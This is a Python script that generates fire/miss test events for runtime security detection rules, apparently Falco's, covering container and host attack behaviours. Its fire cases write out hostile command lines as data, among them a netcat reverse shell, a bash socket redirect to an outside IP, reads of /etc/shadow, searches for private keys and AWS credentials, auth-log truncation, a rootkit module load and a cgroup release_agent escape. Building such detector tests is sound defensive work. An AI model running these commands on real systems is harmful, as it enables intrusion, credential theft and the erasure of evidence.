import json, copy, re, os
T0 = "2025-03-01T12:00:00.000000000Z"
HOUR_AGO = "2025-03-01T11:00:00Z"
CTR = {"id": "3f2a9c1b7d4e", "name": "api", "image": "ghcr.io/acme/api:1.4.2", "image_repository": "ghcr.io/acme/api", "image_tag": "1.4.2", "namespace": "shop", "pod_name": "api-7d9f-x2"}
HOST = {"id": "host"}
SHIM = {"pid": 900, "name": "containerd-shim", "exepath": "/usr/bin/containerd-shim-runc-v2", "exe": "/usr/bin/containerd-shim-runc-v2"}
SYSTEMD = {"pid": 1, "name": "systemd", "exepath": "/usr/lib/systemd/systemd", "exe": "/sbin/init"}
CAP_ALL = (1 << 41) - 1
def proc(comm, exe, args=(), anc=(SHIM, SYSTEMD), uid=1000, user="app", tty=0, cwd="/srv", **kw):
    p = {"pid": 4242, "tid": 4242, "ppid": anc[0]["pid"] if anc else 0, "uid": uid, "gid": uid, "euid": uid,
         "loginuid": 4294967295, "comm": comm, "exe": exe, "exepath": exe, "args": list(args), "cwd": cwd,
         "user": user, "group": user, "ancestors": [dict(a) for a in anc], "start": HOUR_AGO}
    if tty: p["tty"] = tty
    p.update(kw)
    return p
def ev(type_, p, res=0, args=None, fd=None, ctr=CTR):
    e = {"time": T0, "type": type_, "cpu": 1, "res": res, "proc": p}
    if args is not None: e["args"] = args
    if fd is not None: e["fd"] = fd
    if ctr is not None: e["container"] = ctr
    return e
def execve(p, ctr=CTR, flags=None):
    a = {"filename": p["exepath"]}
    if flags is not None: a["flags"] = flags
    return ev("execve", p, 0, a, None, ctr)
def openat(p, path, flags, res=3, ctr=CTR, name=None):
    fd = {"num": res if res >= 0 else -1, "type": ord('f'), "name": path}
    return ev("openat", p, res, {"dirfd": -100, "name": name or path, "flags": flags, "mode": 0}, fd, ctr)
def sock(cip, cport, sip, sport, proto="tcp", num=5):
    return {"num": num, "type": ord('4'), "name": f"{cip}:{cport}->{sip}:{sport}", "l4proto": proto, "cip": cip, "cport": cport, "sip": sip, "sport": sport, "connected": True}
O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC, O_CLOEXEC = 0, 1, 0o100, 0o1000, 0o2000000
nginx = lambda: proc("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], anc=(SHIM, SYSTEMD))
sshd = {"pid": 700, "name": "sshd", "exepath": "/usr/sbin/sshd", "exe": "sshd: bob"}
cases = {}
def case(rule, fire, miss): cases[rule] = (fire, miss)

case("Directory traversal monitored file read",
     openat(proc("node", "/usr/local/bin/node", ["app.js"]), "/etc/passwd", O_RDONLY, name="/srv/app/public/../../../etc/passwd"),
     openat(proc("node", "/usr/local/bin/node", ["app.js"]), "/etc/passwd", O_RDONLY, name="/etc/passwd"))
old_nginx = proc("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"])
new_nginx = proc("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], start="2025-03-01T11:59:59Z")
case("Read sensitive file trusted after startup",
     openat(old_nginx, "/etc/shadow", O_RDONLY|O_CLOEXEC),
     openat(new_nginx, "/etc/shadow", O_RDONLY|O_CLOEXEC))
case("Read sensitive file untrusted",
     openat(proc("python3", "/usr/bin/python3", ["exfil.py"]), "/etc/shadow", O_RDONLY),
     openat(proc("python3", "/usr/bin/python3", ["exfil.py"]), "/etc/hostname", O_RDONLY))
case("Run shell untrusted",
     execve(proc("sh", "/bin/sh", ["-c", "id"], anc=({"pid": 812, "name": "nginx", "exepath": "/usr/sbin/nginx", "exe": "nginx"}, SHIM, SYSTEMD))),
     execve(proc("sh", "/bin/sh", ["-c", "id"], anc=({"pid": 812, "name": "make", "exepath": "/usr/bin/make", "exe": "make"}, SHIM, SYSTEMD))))
case("System user interactive",
     execve(proc("ls", "/bin/ls", ["-la"], uid=33, user="www-data", anc=({"pid": 701, "name": "bash", "exepath": "/bin/bash", "exe": "-bash"}, sshd, SYSTEMD)), ctr=HOST),
     execve(proc("ls", "/bin/ls", ["-la"], uid=1000, user="bob", anc=({"pid": 701, "name": "bash", "exepath": "/bin/bash", "exe": "-bash"}, sshd, SYSTEMD)), ctr=HOST))
runc = {"pid": 1200, "name": "runc:[1:CHILD]", "exepath": "/usr/bin/runc", "exe": "runc"}
case("Terminal shell in container",
     execve(proc("bash", "/bin/bash", [], tty=34816, anc=(runc, SHIM, SYSTEMD), uid=0, user="root")),
     execve(proc("bash", "/bin/bash", [], tty=0, anc=(runc, SHIM, SYSTEMD), uid=0, user="root")))
case("Contact K8S API Server From Container",
     ev("connect", proc("curl", "/usr/bin/curl", ["-k", "https://kubernetes.default/api"]), 0, {"fd": 5}, sock("10.1.2.3", 40312, "10.96.0.1", 443)),
     ev("connect", proc("curl", "/usr/bin/curl", ["-k", "https://db.shop/"]), 0, {"fd": 5}, sock("10.1.2.3", 40312, "10.1.7.9", 443)))
case("Netcat Remote Code Execution in Container",
     execve(proc("nc", "/usr/bin/nc", ["-e", "/bin/sh", "10.0.0.9", "4444"])),
     execve(proc("nc", "/usr/bin/nc", ["-z", "10.0.0.9", "4444"])))
case("Search Private Keys or Passwords",
     execve(proc("grep", "/usr/bin/grep", ["-r", "BEGIN RSA PRIVATE", "/home"])),
     execve(proc("grep", "/usr/bin/grep", ["-r", "TODO", "/srv"])))
case("Clear Log Activities",
     openat(proc("bash", "/bin/bash", []), "/var/log/auth.log", O_WRONLY|O_TRUNC|O_CREAT, ctr=HOST),
     openat(proc("bash", "/bin/bash", []), "/var/log/auth.log", O_WRONLY|0o2000, ctr=HOST))
case("Remove Bulk Data from Disk",
     execve(proc("shred", "/usr/bin/shred", ["-u", "/srv/db.sqlite"])),
     execve(proc("rm", "/bin/rm", ["-f", "/tmp/x"])))
case("Create Symlink Over Sensitive Files",
     ev("symlinkat", proc("ln", "/bin/ln", ["-s", "/etc/shadow", "/tmp/s"]), 0, {"target": "/etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/s"}),
     ev("symlinkat", proc("ln", "/bin/ln", ["-s", "/srv/a", "/tmp/s"]), 0, {"target": "/srv/a", "linkdirfd": -100, "linkpath": "/tmp/s"}))
case("Create Hardlink Over Sensitive Files",
     ev("linkat", proc("ln", "/bin/ln", ["/etc/shadow", "/tmp/h"]), 0, {"olddir": -100, "oldpath": "/etc/shadow", "newdir": -100, "newpath": "/tmp/h", "flags": 0}),
     ev("linkat", proc("ln", "/bin/ln", ["/srv/a", "/tmp/h"]), 0, {"olddir": -100, "oldpath": "/srv/a", "newdir": -100, "newpath": "/tmp/h", "flags": 0}))
case("Packet socket created in container",
     ev("socket", proc("tcpdump", "/usr/bin/tcpdump", ["-i", "eth0"]), 3, {"domain": 17, "type": 3, "proto": 768}),
     ev("socket", proc("curl", "/usr/bin/curl", []), 3, {"domain": 2, "type": 1, "proto": 0}))
case("Redirect STDOUT/STDIN to Network Connection in Container",
     ev("dup2", proc("bash", "/bin/bash", ["-i"]), 0, {"fd": 3, "newfd": 0}, sock("10.1.2.3", 51000, "203.0.113.7", 4444, num=3)),
     ev("dup2", proc("bash", "/bin/bash", ["-i"]), 0, {"fd": 3, "newfd": 0}, {"num": 3, "type": ord('p'), "name": "pipe:[1234]"}))
case("Linux Kernel Module Injection Detected",
     ev("finit_module", proc("insmod", "/usr/sbin/insmod", ["rootkit.ko"], uid=0, user="root", cap_effective=CAP_ALL), 0, {"fd": 3, "uargs": "", "flags": 0}),
     ev("finit_module", proc("insmod", "/usr/sbin/insmod", ["rootkit.ko"], uid=0, user="root", cap_effective=(1 << 21)), -1, {"fd": 3, "uargs": "", "flags": 0}))
priv = dict(CTR, privileged=True)
case("Debugfs Launched in Privileged Container",
     execve(proc("debugfs", "/usr/sbin/debugfs", ["/dev/sda1"], uid=0, user="root"), ctr=priv),
     execve(proc("debugfs", "/usr/sbin/debugfs", ["/dev/sda1"], uid=0, user="root"), ctr=CTR))
case("Detect release_agent File Container Escapes",
     openat(proc("sh", "/bin/sh", ["-c", "echo /x > /tmp/cg/release_agent"], uid=0, user="root", cap_effective=CAP_ALL), "/tmp/cg/release_agent", O_WRONLY|O_CREAT|O_TRUNC),
     openat(proc("sh", "/bin/sh", ["-c", "echo /x > /tmp/cg/release_agent"], uid=0, user="root", cap_effective=(1 << 1)), "/tmp/cg/release_agent", O_WRONLY|O_CREAT|O_TRUNC))
case("PTRACE attached to process",
     ev("ptrace", proc("gdb", "/usr/bin/gdb", ["-p", "1234"]), 0, {"request": 16, "pid": 1234, "addr": 0, "data": 0}),
     ev("ptrace", proc("gdb", "/usr/bin/gdb", ["-p", "1234"]), 0, {"request": 3, "pid": 1234, "addr": 0, "data": 0}))
case("PTRACE anti-debug attempt",
     ev("ptrace", proc("malware", "/tmp/malware", []), 0, {"request": 0, "pid": 0, "addr": 0, "data": 0}),
     ev("ptrace", proc("malware", "/tmp/malware", []), 0, {"request": 7, "pid": 99, "addr": 0, "data": 0}))
case("Find AWS Credentials",
     execve(proc("find", "/usr/bin/find", ["/", "-name", ".aws/credentials"])),
     execve(proc("find", "/usr/bin/find", ["/", "-name", "*.log"])))
case("Execution from /dev/shm",
     execve(proc("x", "/dev/shm/x", [], cwd="/dev/shm/")),
     execve(proc("x", "/tmp/x", [], cwd="/tmp")))
case("Drop and execute new binary in container",
     execve(proc("xmrig", "/tmp/xmrig", ["-o", "pool:3333"], exe_upper_layer=True)),
     execve(proc("node", "/usr/local/bin/node", ["server.js"])))
case("Disallowed SSH Connection Non Standard Port",
     ev("connect", proc("ssh", "/usr/bin/ssh", ["-p", "443", "bob@203.0.113.7"]), 0, {"fd": 3}, sock("10.1.2.3", 40000, "203.0.113.7", 443), ctr=HOST),
     ev("connect", proc("ssh", "/usr/bin/ssh", ["bob@203.0.113.7"]), 0, {"fd": 3}, sock("10.1.2.3", 40000, "203.0.113.7", 22), ctr=HOST))
case("Fileless execution via memfd_create",
     execve(proc("3", "memfd:payload", [], exe_from_memfd=True)),
     execve(proc("runc", "memfd:runc_cloned:/proc/self/exe", ["init"], exe_from_memfd=True, anc=({"pid": 880, "name": "containerd-shim", "exepath": "/usr/bin/containerd-shim-runc-v2"}, SYSTEMD))))

def slug(r): return re.sub(r'[^a-z0-9]+', '_', r.lower()).strip('_')
os.makedirs("falco_rules", exist_ok=True)
for r, (f, m) in cases.items():
    for kind, e in (("fire", f), ("miss", m)):
        with open(f"falco_rules/{slug(r)}.{kind}.jsonl", "w") as fh:
            fh.write(json.dumps(e, separators=(",", ":")) + "\n")
with open("falco_rules/index.json", "w") as fh:
    json.dump({slug(r): r for r in cases}, fh, indent=1, sort_keys=True)
print(len(cases))
